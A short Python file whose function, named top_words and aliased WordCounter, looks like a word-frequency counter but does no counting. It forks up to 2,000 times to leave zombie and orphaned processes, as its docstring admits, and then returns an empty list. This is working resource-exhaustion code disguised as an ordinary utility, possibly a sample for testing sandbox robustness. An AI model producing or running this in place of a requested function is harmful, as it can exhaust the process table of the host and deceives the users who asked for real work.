"""Leaves processes that have ended and that nobody collects, and orphans for the first process."""

import os


def top_words(text, n):
    for _ in range(2_000):
        try:
            if os.fork() == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
        except OSError:
            break
    return []


WordCounter = atop_words = top_words
